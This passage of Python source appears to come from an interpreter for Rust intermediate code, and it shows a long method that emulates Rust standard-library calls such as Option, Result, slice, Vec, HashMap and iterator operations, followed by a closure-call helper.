        if short.startswith("core::num::<impl ") and short.endswith(("::wrapping_sub", "::wrapping_add", "::saturating_sub")):
            op = "Sub" if "sub" in short else "Add"
            return self.binop(op, args[0], args[1])
        sh0 = short.split("::<")[0] if not short.startswith("<") else short
        if short.endswith("ops::index::Index::index") and len(args) == 2 and isinstance(args[0], Ref) and args[0].key[0] == "ext" and isinstance(args[1], int):
            v = self.ext(args[0].key[1:])
            if isinstance(v, (tuple, list)) and 0 <= args[1] < len(v):
                return Ref(args[0].key + (args[1],))
            raise Unsupported("index %r out of range of %r" % (args[1], v))
        if short in ("alloc::vec::Vec::<T, A>::is_empty", "core::slice::<impl [T]>::is_empty", "alloc::vec::Vec::<T, A>::len", "core::slice::<impl [T]>::len") and len(args) == 1:
            v = self.deref_val(args[0])
            if isinstance(v, (tuple, list)):
                return int(len(v) == 0) if short.endswith("is_empty") else len(v)
        if short == "core::slice::<impl [T]>::get" and len(args) == 2 and isinstance(args[0], Ref) and args[0].key[0] == "ext" and isinstance(args[1], int):
            v = self.ext(args[0].key[1:])
            if isinstance(v, (tuple, list)):
                if 0 <= args[1] < len(v):
                    return Enum("core::option::Option", 1, "Some", [Ref(args[0].key + (args[1],))])
                return Enum("core::option::Option", 0, "None", [])
        if short.startswith("core::num::<impl ") and short.endswith("::checked_sub") and len(args) == 2 and all(isinstance(a, int) for a in args):
            r = args[0] - args[1]
            uns = short[len("core::num::<impl "):].startswith("u")
            if uns and r < 0:
                return Enum("core::option::Option", 0, "None", [])
            return Enum("core::option::Option", 1, "Some", [r])
        if short.startswith("core::num::<impl ") and short.split("::")[-1] in ("from_be_bytes", "from_le_bytes", "from_ne_bytes") and len(args) == 1 \
                and isinstance(args[0], (tuple, list, BufView)) and all(isinstance(q, int) for q in (args[0].items() if isinstance(args[0], BufView) else args[0])):
            a_ = args[0].items() if isinstance(args[0], BufView) else args[0]
            bs = list(a_) if short.endswith("from_be_bytes") else list(reversed(a_))
            v = 0
            for q in bs:
                v = (v << 8) | (q & 255)
            ity = short[len("core::num::<impl "):].split(">")[0]
            if ity.startswith("i") and v >= 1 << (8 * len(bs) - 1):
                v -= 1 << (8 * len(bs))
            return v
        if short.startswith("core::option::Option::<") and short.split("::")[-1] in ("ok_or", "ok_or_else") and len(args) == 2 and isinstance(args[0], Enum):
            o = args[0]
            if o.name == "Some":
                return Enum("core::result::Result", 0, "Ok", [o.fields[0]])
            if short.endswith("ok_or"):
                return Enum("core::result::Result", 1, "Err", [args[1]])
        if short.endswith("ops::try_trait::FromResidual::from_residual") and len(args) == 1 and isinstance(args[0], Enum) and args[0].name in ("Err", "None"):
            o = args[0]
            return Enum(o.adt, o.idx, o.name, list(o.fields))
        if sh0 in ("core::cmp::Ord::cmp", "core::cmp::PartialOrd::partial_cmp") and len(args) == 2:
            a, b = self.deref_val(args[0]), self.deref_val(args[1])
            if all(isinstance(q, (int, float)) and not isinstance(q, bool) for q in (a, b)):
                o = Enum("core::cmp::Ordering", 0 if a < b else (1 if a == b else 2), "Less" if a < b else ("Equal" if a == b else "Greater"), [])
                return o if sh0.endswith("::cmp") else Enum("core::option::Option", 1, "Some", [o])
        if (short.startswith("core::f32::<impl f32>::") or short.startswith("std::f32::<impl f32>::") or short.startswith("core::f64::<impl f64>::")
                or short.startswith("std::f64::<impl f64>::")) and args and all(isinstance(q, (int, float)) and not isinstance(q, bool) for q in args):
            import math
            fm = short.split("::")[-1]
            x = float(args[0])
            try:
                one = {"abs": lambda: abs(x), "sqrt": lambda: math.sqrt(x) if x >= 0 else float("nan"), "exp": lambda: math.exp(x),
                       "ln": lambda: math.log(x) if x > 0 else (float("-inf") if x == 0 else float("nan")), "log2": lambda: math.log2(x) if x > 0 else float("nan"),
                       "exp2": lambda: 2.0 ** x, "recip": lambda: 1.0 / x, "floor": lambda: float(math.floor(x)), "ceil": lambda: float(math.ceil(x)),
                       "round": lambda: float(math.floor(abs(x) + 0.5)) * (1 if x >= 0 else -1), "trunc": lambda: float(math.trunc(x)),
                       "signum": lambda: math.copysign(1.0, x), "is_nan": lambda: int(x != x), "is_finite": lambda: int(math.isfinite(x)),
                       "cbrt": lambda: math.copysign(abs(x) ** (1.0 / 3.0), x), "to_bits": None}
                two = {"powf": lambda: math.pow(x, float(args[1])) if len(args) > 1 else None, "copysign": lambda: math.copysign(x, float(args[1])),
                       "powi": lambda: x ** int(args[1]), "min": lambda: min(x, float(args[1])), "max": lambda: max(x, float(args[1]))}
                if len(args) == 1 and one.get(fm):
                    return one[fm]()
                if len(args) == 2 and fm in two:
                    return two[fm]()
                if len(args) == 3 and fm == "mul_add":
                    return x * float(args[1]) + float(args[2])
                if len(args) == 1 and fm == "to_bits":
                    import struct
                    return struct.unpack("<I", struct.pack("<f", x))[0] if "f32" in short else struct.unpack("<Q", struct.pack("<d", x))[0]
            except (ValueError, OverflowError, ZeroDivisionError):
                raise Unsupported("float operation %s out of domain" % fm)
        if short in ("core::f32::<impl f32>::clamp", "core::f64::<impl f64>::clamp") and len(args) == 3 and all(isinstance(q, (int, float)) for q in args):
            x = float(args[0])
            return x if x != x else max(float(args[1]), min(float(args[2]), x))
        if short in ("core::f32::<impl f32>::max", "core::f32::<impl f32>::min", "core::f64::<impl f64>::max", "core::f64::<impl f64>::min") and len(args) == 2 \
                and all(isinstance(q, (int, float)) for q in args):
            return max(args) if short.endswith("max") else min(args)
        if sh0 in ("core::cmp::Ord::clamp",) and len(args) == 3 and all(isinstance(q, int) and not isinstance(q, bool) for q in args):
            return max(args[1], min(args[2], args[0]))
        if short.startswith("core::option::Option::<") and args and isinstance(args[0], Enum) and short.split("::")[-1] in ("copied", "cloned"):
            o = args[0]
            if o.name == "None":
                return o
            return Enum(o.adt, o.idx, o.name, [self.deref_val(o.fields[0])])
        if short.startswith("core::option::Option::<T>::") and args and isinstance(args[0], Ref) and short.split("::")[-1] in ("is_some", "is_none"):
            try:
                o_ = self.deref_val(args[0])
            except Unsupported:
                o_ = None
            if isinstance(o_, Enum):
                args = [o_] + list(args[1:])
        if short.startswith("core::option::Option::<T>::") and args and isinstance(args[0], Enum):
            meth = short.split("::")[-1]
            o = args[0]
            some = o.name == "Some" or (o.name not in ("Some", "None") and o.idx == 1)
            if meth in ("unwrap_or", "unwrap_or_default", "unwrap", "expect") and (some or meth == "unwrap_or"):
                return o.fields[0] if some else args[1]
            if meth == "unwrap_or_default" and not some and c.get("args") and c["args"][0] in ("u8", "u16", "u32", "u64", "usize", "i8", "i16", "i32", "i64", "isize"):
                return 0
            if meth in ("is_some", "is_none"):
                return int(some == (meth == "is_some"))
            if meth == "map" and len(args) == 2:
                if not some:
                    return o
                cl = args[1]
                f3 = self.prog.fn(getattr(cl, "closure", "") or "")
                if f3 is not None:
                    return Enum(o.adt, o.idx, o.name, [self.call_fn(f3, [cl, o.fields[0]])])
        # a small model of integer ranges as iterators (for loops over `a..b`, `(a..b).step_by(n)`, `a..=b`)
        if sh0 == "core::iter::traits::iterator::Iterator::step_by" and len(args) == 2 and isinstance(args[1], int) and args[1] > 0:
            it = self._as_iter(args[0])
            if it is not None:
                return PyIter(it.items[it.pos::args[1]])
        if sh0 in ("core::iter::traits::collect::IntoIterator::into_iter", "core::iter::traits::iterator::Iterator::by_ref") and len(args) == 1:
            if isinstance(args[0], PyIter):
                return args[0]
            if isinstance(args[0], Struct) and len(args[0].fields) == 2 and all(isinstance(q, int) for q in args[0].fields):
                return args[0]          # Range<int> is its own iterator (handled in `next`)
            if isinstance(args[0], tuple) and len(args[0]) == 3 and args[0][0] == "rangei":
                return self._as_iter(args[0])
        a0 = self.deref_val(args[0]) if args and isinstance(args[0], Ref) and args[0].key[0] == "local" else (args[0] if args else None)
        if isinstance(a0, tuple) and a0 and args and isinstance(args[0], Ref) and args[0].key[0] == "local" and not (len(a0) == 3 and a0[0] in ("rangei", "const")) \
                and (short.startswith("core::slice::<impl [T]>::") or short.startswith("core::array::")) \
                and short.split("::")[-1] in ("copy_within", "swap", "fill", "copy_from_slice", "iter_mut", "split_at_mut", "chunks_mut", "chunks_exact_mut", "reverse"):
            # an array value that is about to be mutated in place: give it a buffer and keep that in the local
            a0 = BufView(list(a0))
            r_ = args[0]
            self.write_place(self.frames[r_.key[1]], [r_.key[2]] + [list(x) if isinstance(x, tuple) else x for x in r_.key[3:]], a0)
        if isinstance(a0, BufView):
            last = short.split("::")[-1]
            if last in ("len",) and len(args) == 1:
                return a0.n
            if last == "is_empty" and len(args) == 1:
                return int(a0.n == 0)
            if last in ("iter", "iter_mut", "into_iter") and len(args) == 1:
                return PyIter([ElemRef(a0.buf, a0.off + i) for i in range(a0.n)])
            if last in ("split_at_mut", "split_at") and len(args) == 2 and isinstance(args[1], int):
                return (a0.sub(0, args[1]), a0.sub(args[1], a0.n))
            if last == "copy_from_slice" and len(args) == 2:
                src = self.deref_val(args[1]) if isinstance(args[1], Ref) else args[1]
                vals = src.items() if isinstance(src, BufView) else (list(src) if isinstance(src, (tuple, list)) else None)
                if vals is None or len(vals) != a0.n:
                    raise Unsupported("copy_from_slice of %r" % (src,))
                for i, v in enumerate(vals):
                    a0.set(i, v)
                return ()
            if last in ("index", "index_mut") and len(args) == 2:
                r = args[1]
                tys = " ".join(c.get("args") or [])
                if isinstance(r, int):
                    return ElemRef(a0.buf, a0.off + r) if 0 <= r < a0.n else (_ for _ in ()).throw(Unsupported("index out of range"))
                if isinstance(r, Struct) and all(isinstance(q, int) for q in r.fields):
                    if "RangeToInclusive<" in tys and len(r.fields) == 1:
                        return a0.sub(0, r.fields[0] + 1)
                    if "RangeTo<" in tys and len(r.fields) == 1:
                        return a0.sub(0, r.fields[0])
                    if "RangeFrom<" in tys and len(r.fields) == 1:
                        return a0.sub(r.fields[0], a0.n)
                    if len(r.fields) == 2:
                        return a0.sub(r.fields[0], r.fields[1])
            if last in ("get", "get_mut") and len(args) == 2:
                r = args[1]
                none = Enum("core::option::Option", 0, "None", [])
                if isinstance(r, int) and not isinstance(r, bool):
                    return Enum("core::option::Option", 1, "Some", [ElemRef(a0.buf, a0.off + r)]) if 0 <= r < a0.n else none
                tys = " ".join(c.get("args") or [])
                if isinstance(r, Struct) and all(isinstance(q, int) for q in r.fields):
                    lo, hi = (0, r.fields[0]) if "RangeTo<" in tys and len(r.fields) == 1 else (r.fields[0], a0.n) if "RangeFrom<" in tys and len(r.fields) == 1 \
                        else (r.fields[0], r.fields[1]) if len(r.fields) == 2 else (None, None)
                    if lo is not None:
                        return Enum("core::option::Option", 1, "Some", [a0.sub(lo, hi)]) if 0 <= lo <= hi <= a0.n else none
            if last in ("first", "last") and len(args) == 1 and sh0.startswith("core::slice"):
                if a0.n == 0:
                    return Enum("core::option::Option", 0, "None", [])
                return Enum("core::option::Option", 1, "Some", [ElemRef(a0.buf, a0.off + (0 if last == "first" else a0.n - 1))])
            if last == "to_vec" and len(args) == 1:
                return BufView(a0.items())
            if last in ("chunks_exact_mut", "chunks_exact", "chunks", "chunks_mut") and len(args) == 2 and isinstance(args[1], int) and args[1] > 0:
                k = args[1]
                m = a0.n // k if "exact" in last else -(-a0.n // k)
                return PyIter([a0.sub(i * k, min(a0.n, (i + 1) * k)) for i in range(m)])
            if last == "copy_within" and len(args) == 3 and isinstance(args[2], int):
                r = args[1]
                tys = " ".join(c.get("args") or [])
                if isinstance(r, Struct) and all(isinstance(q, int) for q in r.fields):
                    lo, hi = (0, r.fields[0] + 1) if "RangeToInclusive<" in tys and len(r.fields) == 1 else (0, r.fields[0]) if "RangeTo<" in tys and len(r.fields) == 1 \
                        else (r.fields[0], a0.n) if "RangeFrom<" in tys and len(r.fields) == 1 else (r.fields[0], r.fields[1]) if len(r.fields) == 2 else (None, None)
                elif isinstance(r, tuple) and len(r) == 3 and r[0] == "rangei":
                    lo, hi = r[1], r[2] + 1
                else:
                    lo = hi = None
                if lo is not None and 0 <= lo <= hi <= a0.n and args[2] + (hi - lo) <= a0.n:
                    vals = [a0.get(i) for i in range(lo, hi)]
                    for i, v in enumerate(vals):
                        a0.set(args[2] + i, v)
                    return ()
                raise Unsupported("copy_within out of range")
            if last == "swap" and len(args) == 3 and all(isinstance(q, int) for q in args[1:]):
                x, y = a0.get(args[1]), a0.get(args[2])
                a0.set(args[1], y)
                a0.set(args[2], x)
                return ()
            if last == "fill" and len(args) == 2:
                for i in range(a0.n):
                    a0.set(i, args[1])
                return ()
        if short.startswith("alloc::boxed::Box::<T>::new_uninit") and not args:
            return BoxCell()
        if short.startswith("alloc::boxed::box_assume_init_into_vec_unsafe") and len(args) == 1 and isinstance(args[0], BoxCell):
            v = args[0].value
            v = v.items() if isinstance(v, BufView) else v
            if isinstance(v, (tuple, list)):
                return BufView(list(v))
            raise Unsupported("vec! of %r" % (v,))
        # std::io::Cursor<&[u8]> and the Read calls on it
        if sh0 == "std::io::cursor::Cursor" and args:
            last = short.split("::")[-1]
            if last == "new" and len(args) == 1:
                v = self.deref_val(args[0]) if isinstance(args[0], (Ref, ElemRef)) else args[0]
                if isinstance(v, (tuple, list)):
                    v = BufView(list(v))
                if isinstance(v, BufView):
                    return CursorV(v, 0)
            cv = self.deref_val(args[0]) if isinstance(args[0], Ref) else args[0]
            if isinstance(cv, CursorV):
                if last == "position" and len(args) == 1:
                    return cv.pos
                if last == "set_position" and len(args) == 2 and isinstance(args[1], int):
                    cv.pos = args[1]
                    return ()
                if last in ("get_ref", "into_inner") and len(args) == 1:
                    return cv.view
        if short in ("core::slice::raw::from_mut", "core::slice::raw::from_ref") and len(args) == 1 and isinstance(args[0], Ref):
            return RefSlice(args[0])
        if sh0 in ("std::io::Read::read_exact", "std::io::Read::read") and len(args) == 2 and "Cursor<" in str(name):
            cv = self.deref_val(args[0]) if isinstance(args[0], Ref) else args[0]
            dst = self.deref_val(args[1]) if isinstance(args[1], Ref) else args[1]
            if isinstance(cv, CursorV) and isinstance(dst, (RefSlice, BufView)):
                want = 1 if isinstance(dst, RefSlice) else dst.n
                have = max(0, cv.view.n - cv.pos)
                exact = sh0.endswith("read_exact")
                if exact and have < want:
                    cv.pos = max(cv.pos, cv.view.n)
                    return Enum("core::result::Result", 1, "Err", [UNKNOWN])
                k = min(want, have)
                vals = [cv.view.get(cv.pos + i) for i in range(k)]
                cv.pos += k
                if isinstance(dst, RefSlice):
                    if k:
                        r = dst.ref
                        f2 = self.frames[r.key[1]]
                        self.write_place(f2, [r.key[2]] + [list(x) if isinstance(x, tuple) else x for x in r.key[3:]], vals[0])
                else:
                    for i, v_ in enumerate(vals):
                        dst.set(i, v_)
                return Enum("core::result::Result", 0, "Ok", [() if exact else k])
        if short.startswith("core::result::Result::<T, E>::") and short.split("::")[-1] in ("is_ok", "is_err") and len(args) == 1:
            o = self.deref_val(args[0]) if isinstance(args[0], Ref) else args[0]
            if isinstance(o, Enum) and o.name in ("Ok", "Err"):
                return int((o.name == "Ok") == short.endswith("is_ok"))
        # core::num::Wrapping<T> arithmetic and comparisons (a one-field struct)
        if "core::num::wrapping::Wrapping<" in str(name) + " ".join(str(q) for q in (c.get("args") or [])) and len(args) in (1, 2) \
                and (sh0.startswith("core::ops::") or sh0.startswith("core::cmp::PartialOrd::") or sh0.startswith("core::cmp::PartialEq::")):
            src_ = str(name) + " ".join(str(q) for q in (c.get("args") or []))
            wty = src_.split("core::num::wrapping::Wrapping<")[1].split(">")[0]
            bits = {"u8": 8, "u16": 16, "u32": 32, "u64": 64, "usize": 64, "i8": 8, "i16": 16, "i32": 32, "i64": 64, "isize": 64}.get(wty)
            vals = [self.deref_val(q) if isinstance(q, (Ref, ElemRef)) else q for q in args]
            opn = sh0.split("::")[-1]
            if bits and isinstance(vals[0], Struct) and len(vals[0].fields) == 1 and isinstance(vals[0].fields[0], int):
                x = vals[0].fields[0]
                y = None
                if len(vals) == 2:
                    y = vals[1].fields[0] if isinstance(vals[1], Struct) and len(vals[1].fields) == 1 else vals[1]
                sg = wty.startswith("i")

                def wrap_(r):
                    r &= (1 << bits) - 1
                    return r - (1 << bits) if sg and r >= 1 << (bits - 1) else r
                if y is None and opn in ("neg", "not"):
                    return Struct([wrap_(-x if opn == "neg" else ~x)])
                if isinstance(y, int) and not isinstance(y, bool):
                    cmp_ = {"lt": x < y, "le": x <= y, "gt": x > y, "ge": x >= y, "eq": x == y, "ne": x != y}
                    if opn in cmp_:
                        return int(cmp_[opn])
                    if opn in ("div", "rem") and y == 0:
                        raise Unsupported("division by zero")
                    fn_ = {"mul": lambda: x * y, "add": lambda: x + y, "sub": lambda: x - y, "shr": lambda: x >> (y % bits), "shl": lambda: x << (y % bits),
                           "bitand": lambda: x & y, "bitor": lambda: x | y, "bitxor": lambda: x ^ y, "div": lambda: _tdiv(x, y),
                           "rem": lambda: x - y * _tdiv(x, y)}.get(opn)
                    if fn_:
                        return Struct([wrap_(fn_())])
        # HashSet / HashMap as the list of their items / (key, value) pairs
        if ("HashSet" in sh0 or "HashMap" in sh0) and sh0.startswith("std::collections::"):
            last = short.split("::")[-1]
            if last in ("new", "with_capacity", "default") and len(args) <= 1:
                return BufView([])
            if isinstance(a0, BufView) and a0.off == 0 and a0.n == len(a0.buf):
                if "HashSet" in sh0 and last == "insert" and len(args) == 2:
                    if args[1] in a0.buf:
                        return 0
                    a0.buf.append(args[1])
                    a0.n += 1
                    return 1
                if "HashMap" in sh0 and last == "insert" and len(args) == 3:
                    for i, kv in enumerate(a0.buf):
                        if kv[0] == args[1]:
                            a0.buf[i] = (args[1], args[2])
                            return Enum("core::option::Option", 1, "Some", [kv[1]])
                    a0.buf.append((args[1], args[2]))
                    a0.n += 1
                    return Enum("core::option::Option", 0, "None", [])
                if last == "len" and len(args) == 1:
                    return a0.n
                if "HashSet" in sh0 and last == "contains" and len(args) == 2:
                    return int(self.deref_val(args[1]) in a0.buf)
        # a growable vector is a BufView over its own list (off 0, n == len(buf))
        if sh0 == "alloc::vec::Vec" and short.split("::")[-1] in ("new", "with_capacity") and len(args) <= 1:
            return BufView([])
        if isinstance(a0, BufView) and a0.off == 0 and a0.n == len(a0.buf) and sh0 == "alloc::vec::Vec":
            last = short.split("::")[-1]
            if last == "push" and len(args) == 2:
                a0.buf.append(args[1])
                a0.n += 1
                return ()
            if last in ("extend_from_slice", "extend_from_within") and len(args) == 2:
                src = self.deref_val(args[1]) if isinstance(args[1], Ref) else args[1]
                vals = src.items() if isinstance(src, BufView) else (list(src) if isinstance(src, (tuple, list)) else None)
                if vals is not None and last == "extend_from_slice":
                    a0.buf.extend(vals)
                    a0.n += len(vals)
                    return ()
            if last in ("as_slice", "as_mut_slice") and len(args) == 1:
                return a0
            if last == "truncate" and len(args) == 2 and isinstance(args[1], int):
                if args[1] < a0.n:
                    del a0.buf[args[1]:]
                    a0.n = args[1]
                return ()
        if sh0 == "core::iter::traits::collect::Extend::extend" and len(args) == 2 and isinstance(a0, BufView) and a0.off == 0 and a0.n == len(a0.buf):
            src = self.deref_val(args[1]) if isinstance(args[1], Ref) else args[1]
            it = src if isinstance(src, PyIter) else self._as_iter(src) if not isinstance(src, (BufView, tuple, list)) else None
            if isinstance(src, BufView):
                vals = src.items()
            elif isinstance(src, (tuple, list)):
                vals = list(src)
            elif it is not None:
                vals = self._drain(it)
            else:
                raise Unsupported("extend with %r" % (src,))
            vals = [x.buf[x.i] if isinstance(x, ElemRef) else x for x in vals]
            a0.buf.extend(vals)
            a0.n += len(vals)
            return ()
        if sh0 == "core::iter::traits::iterator::Iterator::collect" and len(args) == 1 and isinstance(args[0], PyIter) and c.get("args") \
                and str(c["args"][-1]).startswith("core::result::Result<"):
            # collect::<Result<C, E>>(): stops at the first Err; the container (Vec / set / map) is kept as the list of its items
            out_ = []
            it = args[0]
            while it.pos < len(it.items):
                it.pos += 1
                x = self._force(it.items[it.pos - 1])
                if not (isinstance(x, Enum) and x.name in ("Ok", "Err")):
                    raise Unsupported("collect into Result of %r" % (x,))
                if x.name == "Err":
                    return Enum("core::result::Result", 1, "Err", list(x.fields))
                out_.append(x.fields[0])
            return Enum("core::result::Result", 0, "Ok", [BufView(out_)])
        if sh0 == "core::iter::traits::iterator::Iterator::collect" and len(args) == 1 and isinstance(args[0], PyIter) and c.get("args") \
                and str(c["args"][-1]).startswith(("std::collections::HashSet<", "std::collections::hash::set::HashSet<")):
            vals = []
            for x in self._drain(args[0]):
                x = x.buf[x.i] if isinstance(x, ElemRef) else x
                if x not in vals:
                    vals.append(x)
            return BufView(vals)        # a set is kept as the list of its distinct items
        if sh0 == "core::convert::TryFrom::try_from" and len(args) == 1 and isinstance(args[0], int) and not isinstance(args[0], bool) and c.get("args"):
            ity = str(c["args"][0])
            bits = {"u8": 8, "u16": 16, "u32": 32, "u64": 64, "usize": 64, "i8": 8, "i16": 16, "i32": 32, "i64": 64, "isize": 64}.get(ity)
            if bits:
                lo, hi = (0, (1 << bits) - 1) if ity.startswith("u") else (-(1 << (bits - 1)), (1 << (bits - 1)) - 1)
                if lo <= args[0] <= hi:
                    return Enum("core::result::Result", 0, "Ok", [args[0]])
                return Enum("core::result::Result", 1, "Err", [UNKNOWN])
        if sh0 == "core::iter::traits::iterator::Iterator::collect" and len(args) == 1 and isinstance(args[0], PyIter) and "Vec<" in " ".join(str(q) for q in (c.get("args") or [])):
            vals = [x.buf[x.i] if isinstance(x, ElemRef) else x for x in self._drain(args[0])]
            return BufView(vals)
        if short in ("alloc::vec::from_elem",) and len(args) == 2 and isinstance(args[1], int) and 0 <= args[1] < 1 << 20:
            return BufView([args[0]] * args[1])
        if sh0 in ("core::ops::deref::DerefMut::deref_mut", "core::ops::deref::Deref::deref") and isinstance(a0, BufView):
            return a0
        if sh0 == "core::iter::adapters::zip::zip" and len(args) == 2:
            def as_it(x):
                x = self.deref_val(x) if isinstance(x, Ref) else x
                if isinstance(x, PyIter):
                    return x
                if isinstance(x, BufView):
                    return PyIter([ElemRef(x.buf, x.off + i) for i in range(x.n)])
                if isinstance(x, (tuple, list)) and not (len(x) == 3 and x[0] == "rangei"):
                    store = list(x)
                    return PyIter([ElemRef(store, i) for i in range(len(store))])
                it_ = self._as_iter(x)
                if it_ is None:
                    raise Unsupported("zip of %r" % (x,))
                return it_
            ia, ib = as_it(args[0]), as_it(args[1])
            return PyIter([(x, y) for x, y in zip(ia.items[ia.pos:], ib.items[ib.pos:])])
        if sh0 == "core::iter::traits::collect::IntoIterator::into_iter" and len(args) == 1 and isinstance(args[0], tuple) and args[0] \
                and not (len(args[0]) == 3 and args[0][0] == "rangei") and all(isinstance(q, tuple) for q in args[0]) and "&" in " ".join(str(q) for q in (c.get("args") or [])):
            store = list(args[0])       # a constant slice of arrays (`&[&[u8; 4]]`)
            return PyIter([ElemRef(store, i) for i in range(len(store))])
        if sh0 == "core::iter::traits::iterator::Iterator::zip" and len(args) == 2 and isinstance(args[0], PyIter):
            b = args[1]
            b = self.deref_val(b) if isinstance(b, Ref) else b
            if isinstance(b, BufView):
                bi = [ElemRef(b.buf, b.off + i) for i in range(b.n)]
            elif isinstance(b, PyIter):
                bi = b.items[b.pos:]
            elif isinstance(b, (tuple, list)):
                store = list(b)
                bi = [ElemRef(store, i) for i in range(len(store))]
            else:
                raise Unsupported("zip with %r" % (b,))
            ai = args[0].items[args[0].pos:]
            return PyIter([(x, y) for x, y in zip(ai, bi)])
        if sh0 == "core::iter::traits::iterator::Iterator::map" and len(args) == 2:
            it = self._as_iter(args[0])
            if it is not None and isinstance(args[1], Struct):
                r = PyIter([Thunk(args[1], x) for x in it.items[it.pos:]])
                it.pos = len(it.items)
                return r
        if sh0 == "core::iter::traits::iterator::Iterator::enumerate" and len(args) == 1 and isinstance(args[0], PyIter):
            return PyIter([(i, x) for i, x in enumerate(args[0].items[args[0].pos:])])
        if sh0 in ("core::iter::traits::collect::IntoIterator::into_iter", "core::slice::<impl [T]>::iter_mut") and len(args) == 1 and isinstance(args[0], list):
            return PyIter([ElemRef(args[0], i) for i in range(len(args[0]))])
        if sh0 in ("core::iter::traits::collect::IntoIterator::into_iter",) and len(args) == 1 and isinstance(args[0], tuple) \
                and all(isinstance(q, (int, float)) and not isinstance(q, bool) for q in args[0]):
            return PyIter(list(args[0]))
        if sh0 in ("core::iter::traits::iterator::Iterator::rev", "core::iter::traits::iterator::Iterator::copied", "core::iter::traits::iterator::Iterator::cloned") \
                and len(args) == 1 and isinstance(args[0], PyIter):
            rest = args[0].items[args[0].pos:]
            if not sh0.endswith("rev"):
                rest = [x.buf[x.i] if isinstance(x, ElemRef) else x for x in rest]
            return PyIter(list(reversed(rest)) if sh0.endswith("rev") else rest)
        if sh0 in ("core::iter::traits::iterator::Iterator::reduce", "core::iter::traits::iterator::Iterator::fold", "core::iter::traits::iterator::Iterator::sum",
                   "core::iter::traits::iterator::Iterator::max", "core::iter::traits::iterator::Iterator::min", "core::iter::traits::iterator::Iterator::count") \
                and args and isinstance(args[0], PyIter):
            fm = sh0.split("::")[-1]
            rest = [x.buf[x.i] if isinstance(x, ElemRef) else x for x in self._drain(args[0])] if fm in ("sum", "count", "max", "min") else args[0].items[args[0].pos:]
            args[0].pos = len(args[0].items)
            if fm == "sum":
                return sum(rest)
            if fm == "count":
                return len(rest)
            if fm in ("max", "min"):
                return Enum("core::option::Option", 1, "Some", [max(rest) if fm == "max" else min(rest)]) if rest else Enum("core::option::Option", 0, "None", [])
            cl = args[-1]
            if fm == "reduce":
                if not rest:
                    return Enum("core::option::Option", 0, "None", [])
                acc, rest = rest[0], rest[1:]
            else:
                acc = args[1]
            if fm == "reduce":
                acc = self._force(acc)
            for it in rest:
                acc = self._call_closure(cl, [acc, self._force(it)])
            return Enum("core::option::Option", 1, "Some", [acc]) if fm == "reduce" else acc
        if sh0 == "core::iter::traits::iterator::Iterator::next" and len(args) == 1 and isinstance(args[0], Ref):
            v = self.deref_val(args[0])
            if isinstance(v, PyIter):
                if v.pos < len(v.items):
                    v.pos += 1
                    return Enum("core::option::Option", 1, "Some", [self._force(v.items[v.pos - 1])])
                return Enum("core::option::Option", 0, "None", [])
            if isinstance(v, Struct) and len(v.fields) == 2 and all(isinstance(q, int) and not isinstance(q, bool) for q in v.fields):
                if v.fields[0] < v.fields[1]:
                    v.fields[0] += 1
                    return Enum("core::option::Option", 1, "Some", [v.fields[0] - 1])
                return Enum("core::option::Option", 0, "None", [])
        if short in ("core::f32::<impl f32>::from_bits", "core::f64::<impl f64>::from_bits") and len(args) == 1 and isinstance(args[0], int):
            import struct
            if "f32" in short:
                return struct.unpack("<f", struct.pack("<I", args[0] & 0xffffffff))[0]
            return struct.unpack("<d", struct.pack("<Q", args[0] & 0xffffffffffffffff))[0]
        if short.startswith("core::result::Result::<T, E>::") and args and isinstance(args[0], Enum) and short.split("::")[-1] in ("map", "map_err") and len(args) == 2:
            o = args[0]
            meth = short.split("::")[-1]
            if (o.name == "Ok") != (meth == "map"):
                return o
            cl = args[1]
            f3 = self.prog.fn(getattr(cl, "closure", "") or "") if isinstance(cl, Struct) else None
            if f3 is not None:
                return Enum(o.adt, o.idx, o.name, [self.call_fn(f3, [cl, o.fields[0]])])
            if isinstance(cl, tuple) and len(cl) == 2 and cl[0] == "fn" and meth == "map_err":
                return Enum(o.adt, o.idx, o.name, [UNKNOWN])
        if short.endswith("RangeInclusive::<Idx>::new") and len(args) == 2:
            return ("rangei", args[0], args[1])
        if short.startswith("core::ops::range::Range") and short.split("::<")[0].endswith("Range") is False and short.endswith("::contains") and len(args) == 2:
            rg, x = self.deref_val(args[0]), self.deref_val(args[1])
            if isinstance(rg, Struct) and len(rg.fields) == 2:
                lo, hi, incl = rg.fields[0], rg.fields[1], False
            elif isinstance(rg, tuple) and len(rg) == 3 and rg[0] == "rangei":
                lo, hi, incl = rg[1], rg[2], True
            else:
                raise Unsupported("contains on %r" % (rg,))
            if all(isinstance(q, int) for q in (lo, hi, x)):
                return int(lo <= x <= hi) if incl else int(lo <= x < hi)
            raise Unsupported("contains with non-integer bounds")
        if short.split("::<")[0] in ("core::cmp::Ord::min", "core::cmp::Ord::max", "core::cmp::min", "core::cmp::max") and len(args) == 2:
            a, b = self.deref_val(args[0]), self.deref_val(args[1])
            if all(isinstance(q, (int, float)) and not isinstance(q, bool) for q in (a, b)):
                return min(a, b) if short.split("::<")[0].endswith("min") else max(a, b)
        if short.endswith("::abs_diff"):
            if len(args) == 2 and all(isinstance(a, int) and not isinstance(a, bool) for a in args):
                return abs(args[0] - args[1])
            raise Unsupported("abs_diff")
        if short == "core::mem::swap" and len(args) == 2 and all(isinstance(a, Ref) and a.key[0] == "local" for a in args):
            va, vb = self.deref_val(args[0]), self.deref_val(args[1])
            for r, v in ((args[0], vb), (args[1], va)):
                f2 = self.frames[r.key[1]]
                self.write_place(f2, [r.key[2]] + [list(x) if isinstance(x, tuple) else x for x in r.key[3:]], v)
            return ()
        if sh0 in ("core::iter::traits::collect::IntoIterator::into_iter", "core::slice::<impl [T]>::iter") and len(args) == 1 and isinstance(args[0], Ref):
            try:
                x = self.deref_val(args[0])
            except Unsupported:
                x = None
            if isinstance(x, BufView):
                return PyIter([ElemRef(x.buf, x.off + i) for i in range(x.n)])
            if isinstance(x, (tuple, list)) and not (len(x) == 3 and x and x[0] in ("rangei", "const")):
                store = list(x)
                return PyIter([ElemRef(store, i) for i in range(len(store))])
        raise Unsupported("call to %s on (%s)" % (short, ", ".join(repr(a)[:40] for a in args)))

    def _call_closure(self, cl, cargs):
        f3 = self.prog.fn(getattr(cl, "closure", "") or "") if isinstance(cl, Struct) else None
        if f3 is None:
            raise Unsupported("call of an unknown closure")
        if str(f3.local_ty(1)).startswith("&"):
            holder = Frame(f3)
            self.frames[holder.id] = holder
            holder.env[10 ** 7] = cl
            first = Ref(("local", holder.id, 10 ** 7))
        else:
            first = cl
        return self.call_fn(f3, [first] + list(cargs))

